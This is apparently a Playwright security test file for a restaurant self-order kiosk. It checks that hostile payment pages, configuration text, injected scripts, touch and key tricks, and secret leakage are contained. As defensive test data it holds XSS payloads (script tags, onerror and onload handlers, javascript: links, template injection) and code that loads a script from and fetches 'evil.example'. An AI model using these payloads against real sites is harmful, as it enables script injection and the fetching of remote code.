/** Attacks by hostile pages, configurations and hands on the kiosk (requirements S2–S6, A10). */
import { expect, type Page } from "@playwright/test";
import { test } from "./pages/fixtures.ts";
import { startHostileProvider } from "./support/hostile-provider.ts";
import { AMARA } from "./support/members.ts";

/** Records everything by which a page could break out. */
function watchEscapes(page: Page): string[] {
  const escapes: string[] = [];
  page.context().on("page", (opened) => escapes.push(`window ${opened.url()}`));
  page.on("download", (download) => escapes.push(`download ${download.url()}`));
  page.on("filechooser", () => escapes.push("file chooser"));
  page.on("dialog", (dialog) => {
    escapes.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("framenavigated", (frame) => {
    if (frame === page.mainFrame()) escapes.push(`address ${frame.url()}`);
  });
  return escapes;
}

test.describe("a hostile payment page", () => {
  test.use({ sandboxState: { configuration: { loyaltyEnabled: false } } });

  test("is confined: it reads nothing, navigates nowhere, opens nothing and is granted nothing (S3, S4)", async ({
    shop,
    page,
  }) => {
    const provider = await startHostileProvider(shop.kiosk.url);
    try {
      await shop.control.setFault("payments.authorize", {
        answer: {
          status: "PENDING",
          transactionReference: "hostile-1",
          redirectUrl: provider.url,
          expectedTtlSeconds: 300,
        },
      });
      await page.goto(shop.kiosk.url);
      await page.getByRole("button", { name: "Eat in" }).tap();
      await page
        .getByRole("button", { name: /^Roast tomato soup/ })
        .first()
        .tap();
      await page.getByRole("button", { name: /^Add 1 for/ }).tap();
      await page.getByRole("button", { name: "Review order" }).tap();
      await expect(page.getByRole("heading", { name: "Your order" })).toBeVisible();
      const escapes = watchEscapes(page);
      await page.getByRole("button", { name: /^Pay €/ }).tap();
      await expect(page.frameLocator("iframe").getByText("Pay here")).toBeVisible();
      const outcomes = await provider.outcomes();
      expect(outcomes).toMatchObject({
        "read the kiosk's page": "refused: SecurityError",
        "read its storage": "refused: SecurityError",
        "run code in it": "refused: SecurityError",
        "lead it away": "refused: SecurityError",
        "open a window": "refused",
        "ask a question": "null",
        "speak for the kiosk's page": "refused",
        "frame the kiosk": "refused",
      });
      for (const name of ["use the camera", "find the place", "read the clipboard"]) {
        expect(outcomes[name], name).toMatch(/^refused/);
      }
      expect(outcomes.notify).not.toBe("granted");
      expect(outcomes["read the kiosk's files"]).toMatch(/^refused/);
      // Whatever it claimed: the kiosk still waits for the payment.
      await expect(page.getByRole("button", { name: "Cancel payment" })).toBeVisible();
      expect(await page.title()).not.toBe("hostile");
      expect(escapes).toEqual([]);
      expect((await shop.control.ledger()).orders).toEqual([]);
    } finally {
      provider.close();
    }
  });
});

const SCRIPTS = [
  "<script>document.title='hostile'</script>",
  "<img src=x onerror=\"document.title='hostile'\">",
  "<svg onload=\"document.title='hostile'\">",
  "<a href=\"javascript:document.title='hostile'\">win a prize</a>",
  "{{constructor.constructor('document.title=1')()}} $t(common:x) \u202E\u0000",
].join(" ");

test.describe("a hostile configuration", () => {
  const texts = { en: SCRIPTS };
  test.use({
    sandboxState: {
      configuration: {
        loyalty: {
          phoneFormDisclaimer: {
            template: { en: `${SCRIPTS} ${"long ".repeat(20_000)} {loyalty_terms}` },
          },
          marketingConsent: { headline: texts, body: texts },
          appInstall: { url: "javascript:document.title='hostile'", promoText: texts },
        },
        documents: [
          {
            kind: "loyalty_terms",
            version: "<b>1</b>",
            titleByLocale: texts,
            pdfUrlByLocale: { en: "javascript:document.title='hostile'" },
            requiresAcceptance: true,
          },
        ],
      },
    },
  });

  test("is only text: no script of it runs, no address of it is loaded, and the order goes on (S2)", async ({
    shop,
    page,
  }) => {
    const violations: string[] = [];
    page.on("console", (message) => {
      if (/Content Security Policy/.test(message.text())) violations.push(message.text());
    });
    await page.goto(shop.kiosk.url);
    const escapes = watchEscapes(page);
    await page.getByRole("button", { name: "Eat in" }).tap();
    await page
      .getByRole("button", { name: /^Roast tomato soup/ })
      .first()
      .tap();
    await page.getByRole("button", { name: /^Add 1 for/ }).tap();
    await page.getByRole("button", { name: "Review order" }).tap();
    await expect(page.getByRole("button", { name: /^Continue without points/ })).toBeVisible();
    expect(
      await page.evaluate(() => document.querySelectorAll("a[href^='javascript']").length),
    ).toBe(0);
    expect(
      await page.evaluate(() => document.querySelectorAll("main script, main img[src='x']").length),
    ).toBe(0);
    await page.getByRole("button", { name: /^Continue without points/ }).tap();
    await expect(page.getByRole("button", { name: /^Pay €/ })).toBeVisible();
    expect(await page.title()).not.toBe("hostile");
    // Not even attempted: text never reaches the point where a policy would have to stop it.
    expect(violations).toEqual([]);
    expect(escapes).toEqual([]);
  });
});

test("an injected script does not run (S2)", async ({ shop, page }) => {
  await page.goto(shop.kiosk.url);
  await expect(page.getByRole("button", { name: "Eat in" })).toBeVisible();
  const tried = await page.evaluate(async () => {
    const element = (html: string) => document.body.insertAdjacentHTML("beforeend", html);
    const script = document.createElement("script");
    script.textContent = "document.title = 'inline'";
    document.body.append(script);
    const failed = (element: Element) =>
      new Promise((resolve) => {
        element.addEventListener("error", resolve, { once: true });
      });
    element("<img id=picture src=x onerror=\"document.title='handler'\">");
    const picture = failed(document.getElementById("picture") ?? document.body);
    element("<a id=link href=\"javascript:document.title='link'\">x</a>");
    document.getElementById("link")?.click();
    const far = document.createElement("script");
    far.src = "https://evil.example/a.js";
    document.body.append(far);
    const farScript = failed(far);
    const errors: string[] = [];
    // Later, without the test tool on the stack.
    const run = Reflect.get(globalThis, "setTimeout");
    Reflect.apply(run, null, ["document.title = 'eval'", 0]);
    await fetch("https://evil.example/").catch(() => errors.push("fetch"));
    // All that could have run has had its turn: the handler, the far script and the timer before this one.
    await Promise.all([picture, farScript]);
    await new Promise((resolve) => Reflect.apply(run, null, [resolve, 0]));
    return { title: document.title, errors };
  });
  expect(["inline", "handler", "link", "eval"]).not.toContain(tried.title);
  expect(tried.errors).toEqual(["fetch"]);
});

test("long presses, pinches, keys and drops do nothing (S5)", async ({ shop, page }) => {
  await page.goto(shop.kiosk.url);
  await expect(page.getByRole("button", { name: "Eat in" })).toBeVisible();
  const escapes = watchEscapes(page);
  const session = await page.context().newCDPSession(page);
  await session.send("Input.dispatchTouchEvent", {
    type: "touchStart",
    touchPoints: [{ x: 300, y: 300 }],
  });
  const menus = await page.evaluate(async () => {
    const seen: boolean[] = [];
    addEventListener("contextmenu", (event) => seen.push(event.defaultPrevented));
    const main = document.querySelector("main") ?? document.body;
    main.dispatchEvent(new MouseEvent("contextmenu", { bubbles: true, cancelable: true }));
    return seen;
  });
  await session.send("Input.dispatchTouchEvent", { type: "touchEnd", touchPoints: [] });
  expect(menus).toEqual([true]);
  const pinch = (distance: number) => [
    { x: 500 - distance, y: 900, id: 1 },
    { x: 500 + distance, y: 900, id: 2 },
  ];
  await session.send("Input.dispatchTouchEvent", { type: "touchStart", touchPoints: pinch(20) });
  await session.send("Input.dispatchTouchEvent", { type: "touchMove", touchPoints: pinch(300) });
  await session.send("Input.dispatchTouchEvent", { type: "touchEnd", touchPoints: [] });
  expect(await page.evaluate(() => window.visualViewport?.scale)).toBe(1);
  for (const key of [
    "F1",
    "F3",
    "F7",
    "Control+p",
    "Control+s",
    "Control+o",
    "Control+u",
    "Alt+ArrowLeft",
  ]) {
    await page.keyboard.press(key);
  }
  const dropped = await page.evaluate(() => {
    const data = new DataTransfer();
    data.setData("text/uri-list", "https://evil.example/");
    data.items.add(new File(["x"], "evil.html", { type: "text/html" }));
    const drop = (type: string) =>
      !document.body.dispatchEvent(
        new DragEvent(type, { bubbles: true, cancelable: true, dataTransfer: data }),
      );
    return { over: drop("dragover"), drop: drop("drop") };
  });
  expect(dropped).toEqual({ over: true, drop: true });
  expect(
    await page.evaluate(() => document.querySelectorAll("input[type=file], a[target]").length),
  ).toBe(0);
  await expect(page.getByRole("button", { name: "Eat in" })).toBeVisible();
  expect(escapes).toEqual([]);
});

test("no secret of the kiosk is in the page's memory, address, storage or messages (S6)", async ({
  shop,
  customer,
}) => {
  const { page } = customer;
  const { ordering, payments, outlet, device } = shop.sandbox.settings as Record<
    string,
    Record<string, unknown>
  >;
  const secrets = [
    ordering?.apiKey,
    ordering?.apiKeyResponse,
    payments?.outboundToken,
    device?.staffPin,
    ...[payments?.inboundTokens].flat(),
    ...Object.values(Object(outlet?.credentialCipher)),
  ].map(String);
  expect(secrets.length).toBeGreaterThan(5);
  const frames: string[] = [];
  const session = await page.context().newCDPSession(page);
  await session.send("Network.enable");
  session.on("Network.webSocketFrameReceived", ({ response }) => frames.push(response.payloadData));
  await page.reload();
  await customer.orderSoup();
  await customer.identifyAs(AMARA);
  await expect(customer.buttonNamed(/^Pay €/)).toBeVisible();
  await customer.payAndGetNumber();
  const chunks: string[] = [];
  session.on("HeapProfiler.addHeapSnapshotChunk", ({ chunk }) => chunks.push(chunk));
  await session.send("HeapProfiler.takeHeapSnapshot", { reportProgress: false });
  const contents = {
    memory: chunks.join(""),
    messages: frames.join("\n"),
    page: await page.content(),
  };
  expect(contents.messages.length).toBeGreaterThan(1_000);
  for (const [place, text] of Object.entries(contents)) {
    // A PIN of four digits is in any text of that length.
    for (const secret of secrets.filter(({ length }) => length > 6)) {
      expect(text.includes(secret), `a secret of ${secret.length} characters in ${place}`).toBe(
        false,
      );
    }
  }
  expect(contents.messages).not.toMatch(/"(apiKey|token|salt|orderKey|cardToken)"/);
});
